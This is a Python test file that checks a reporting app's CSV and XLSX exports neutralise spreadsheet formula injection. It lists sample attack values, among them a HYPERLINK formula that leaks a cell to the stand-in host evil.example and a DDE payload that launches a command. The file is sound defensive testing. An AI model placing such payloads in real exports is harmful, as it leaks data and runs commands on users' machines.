"""Exports never hand a spreadsheet program a live formula (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date

from openpyxl import load_workbook

from reports import exports
from reports.selectors import Period
from reports.tabular.report import Report, Section, export, table

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-3+4",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\tTab",
    "\rReturn",
]


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_a_csv_cell_starting_like_a_formula_is_inert_text():
    response = exports.csv_response("x.csv", [["title", "count"], *[[attack, 7] for attack in ATTACKS]])
    rows = _csv_rows(response)[1:]
    assert [row[0] for row in rows] == ["'" + attack for attack in ATTACKS]
    assert all(row[1] == "7" for row in rows)  # a number is written as a number


def test_an_xlsx_cell_starting_like_a_formula_is_a_string_and_numbers_stay_numbers():
    response = exports.xlsx_response("x.xlsx", [("Sheet", [["title", "count"], *[[attack, 7] for attack in ATTACKS]])])
    sheet = load_workbook(io.BytesIO(response.content)).active
    for row, attack in zip(sheet.iter_rows(min_row=2), ATTACKS, strict=True):
        # XML keeps a carriage return as a line break: the text is the same, never a formula.
        assert row[0].data_type == "s" and row[0].value == attack.replace("\r", "\n")
        assert row[1].data_type == "n" and row[1].value == 7


def test_a_report_export_neutralises_a_customer_controlled_title(db):
    period = Period(date(2026, 3, 1), date(2026, 3, 31), UTC)
    rows_ = [{"title": ATTACKS[0], "count": 3}]
    section = Section("stalls", "Longest stalls", table(rows_, [("title", "Title", "text"), ("count", "Count", "int")],
                                                        prefix="s-"))
    report = Report(name="delays", title="Causes of delay", intro="", period=period, sections=[section])

    rows = _csv_rows(export(report, "csv"))
    assert ["'" + ATTACKS[0], "3"] in rows
    sheet = load_workbook(io.BytesIO(export(report, "xlsx").content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == ATTACKS[0]]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_discipline_export_neutralises_a_display_name(db, manager):
    manager.profile.display_name = "=1+1"
    period = Period(date(2026, 3, 1), date(2026, 3, 31), UTC)
    manager.completed = manager.on_time = manager.objective = manager.subjective = manager.declined = 0
    manager.coefficient, manager.lead_time = 0, None
    rows = _csv_rows(exports.discipline_csv([manager], period))
    assert rows[2][0] == "'=1+1" and rows[2][2] == "0"  # under the period row and the header
